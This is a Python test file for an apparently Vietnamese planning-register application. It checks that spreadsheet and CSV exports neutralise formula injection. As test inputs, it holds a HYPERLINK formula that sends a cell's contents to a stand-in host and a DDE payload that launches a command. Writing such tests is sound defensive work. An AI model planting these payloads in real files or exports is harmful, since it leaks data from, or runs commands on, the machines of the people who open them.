"""Text someone typed never becomes a live formula in an export: every .xlsx cell is a value (no formula), every
.csv cell that starts like a formula is prefixed with an apostrophe."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook

from chitieu.cli.render import write_records
from chitieu.register.accounts import list_accounts
from chitieu.register.consultation import CommentInput, invitee_for_token, submit_response
from chitieu.register.documents import review
from chitieu.register.documents.review import staged_document
from chitieu.register.figures import submit_actual
from chitieu.report import appendix_xlsx, build_appendix, compare_xlsx
from chitieu.report.cells import FORMULA_STARTS
from tests.web.conftest import find_target

from .conftest import SecuredSite

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'


def _xlsx_formulas(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    return [f"{sheet.title}!{cell.coordinate}" for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row if cell.data_type == "f"]


def _csv_live(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8").lstrip("\ufeff")))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and cell[1:2] != ""
            and not cell.lstrip("-").replace(".", "").replace(",", "").isdigit()]


def test_hostile_text_is_inert_in_every_export(secured: SecuredSite) -> None:
    site, ids = secured.site, secured.ids
    register = site.register
    line = staged_document(register, ids.staged)["item_list"][0]["line"]
    review.add_item(register, ids.staged, "admin", quote="Tốc độ", line=line, indicator=HOSTILE, breakdown="+1+1",
                    value=5.0, unit="%", period="2024")
    review.commit(register, ids.staged, "admin", force=True)
    admin = next(a for a in list_accounts(register) if a.username == "admin")
    submit_actual(register, admin, ids.target_a, 7.2, "2024", note="@SUM(1+1)*cmd|' /C calc'!A0")
    invitee = invitee_for_token(register, ids.link)
    submit_response(register, invitee.id, [CommentInput("=1+1 góp ý ẩn danh")],
                    now=datetime.now(UTC) + timedelta(days=1))
    client = site.client("admin")
    target = ids.target_a
    compare_code = find_target(register, "lao dong qua dao tao", "Lạng Sơn").get("indicator_code") or "grdp_growth"
    workbooks = {path: client.get(path) for path in (
        "/export/targets.xlsx", f"/export/target-{target}.xlsx", "/export/approvals.xlsx",
        "/actuals/template.xlsx?province=Lạng Sơn&year=2024",
        f"/consultations/{ids.consultation}/responses.xlsx")}
    for path, response in workbooks.items():
        assert response.status_code == 200, (path, response.text[:200])
        assert _xlsx_formulas(response.content) == [], path
    assert _xlsx_formulas(appendix_xlsx(build_appendix(register, "Lạng Sơn", year=2024))) == []
    assert _xlsx_formulas(compare_xlsx(register, compare_code)) == []
    texts = {path: client.get(path) for path in ("/export/targets.csv", f"/export/target-{target}.csv",
                                                 "/export/approvals.csv")}
    for path, response in texts.items():
        assert response.status_code == 200, path
        assert _csv_live(response.content) == [], path
    cells = {c for row in csv.reader(io.StringIO(texts["/export/targets.csv"].text)) for c in row}
    assert "'" + HOSTILE in cells and "'+1+1" in cells
    book = load_workbook(io.BytesIO(workbooks["/export/targets.xlsx"].content)).active
    assert HOSTILE in {c.value for row in book.iter_rows() for c in row}  # the text itself, as text


def test_command_line_csv_is_inert(capsys: pytest.CaptureFixture[str]) -> None:
    write_records([{"indicator": HOSTILE, "value": -5.0, "note": "@cmd"}], "csv", [("indicator", "Chỉ tiêu")])
    row = list(csv.reader(io.StringIO(capsys.readouterr().out)))[1]
    assert row == ["'" + HOSTILE, "-5.0", "'@cmd"]
